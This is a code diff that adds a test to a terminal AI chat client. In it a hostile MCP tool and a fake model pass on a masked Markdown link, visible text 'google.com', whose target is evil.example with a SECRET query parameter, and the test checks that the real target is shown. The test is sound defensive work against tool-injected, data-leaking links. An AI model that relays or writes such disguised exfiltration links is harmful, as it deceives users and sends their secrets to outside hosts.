@@ -7,6 +7,7 @@ import contextlib
 import fcntl
 import json
 import os
+import re
 import shutil
 import signal
 import struct
@@ -21,6 +22,7 @@ from adapters.terminal.views import conversation_key
 from bot.store.sqlite import SQLiteStore
 from tests.conftest import ROOT
 from tests.fakes.llm_server import FakeCall, FakeLLMServer, reply, tool_reply
+from tests.mcp_servers.hostile import MASKED_LINK
 from tests.test_cli import nerve_env
 
 PROMPT = b"you \xe2\x80\xba "  # "you › "
@@ -281,3 +283,38 @@ async def test_escape_sequences_from_tools_and_the_model_never_reach_the_termina
     assert b"model " in screen and b"tool " in screen
     assert b"\x1b]52" not in screen and b"\x1b[2J" not in screen and b"\x07" not in screen
     assert b"]52;c;" in screen, "the text is shown, made harmless"
+
+
+async def test_links_from_tools_and_the_model_show_their_target_and_are_never_hidden_hyperlinks(tmp_path):
+    """rich would print `[google.com](https://evil.example/c?d=SECRET)` as an OSC 8 hyperlink whose
+    only visible text is "google.com"; the chat shows where every link goes instead."""
+    config = tmp_path / "mcp.json"
+    hostile = {
+        "command": sys.executable,
+        "args": ["-m", "tests.mcp_servers.hostile"],
+        "cwd": str(ROOT),
+        "approval": "never",
+    }
+    config.write_text(json.dumps({"mcpServers": {"hostile": hostile}}))
+    script = [
+        tool_reply(FakeCall(name="find_page", arguments=json.dumps({"query": "cats"}), id="c1")),
+        # The model passes the tool's link on, as models do.
+        reply(f"Found it: {MASKED_LINK}"),
+    ]
+    async with FakeLLMServer(script) as model:
+        env = chat_env(tmp_path, OPENAI_BASE_URL=model.base_url, NERVE_MCP_CONFIG=str(config))
+        async with terminal(*nerve("chat"), env=env) as term:
+            at = await term.expect(PROMPT)
+            term.type(b"/tools\r")
+            at = await term.expect(PROMPT, after=at)
+            term.type(b"find the cats page\r")
+            at = await term.expect(b"Found it", after=at)
+            at = await term.expect(PROMPT, after=at)
+            term.type(b"/quit\r")
+            assert await term.exit_code() == 0
+        model.assert_complete()
+    assert b"\x1b]8;" not in term.output, "no hyperlink escape sequence at all"
+    seen = re.sub(r"\x1b\[[0-9;?]*[A-Za-z]", "", term.screen())
+    assert "on google.com (https://evil.example/d)" in seen, "the tool list"
+    assert "Found it: google.com (https://evil.example/c?d=SECRET)" in seen, "the answer"
+    assert "[google.com](" not in seen
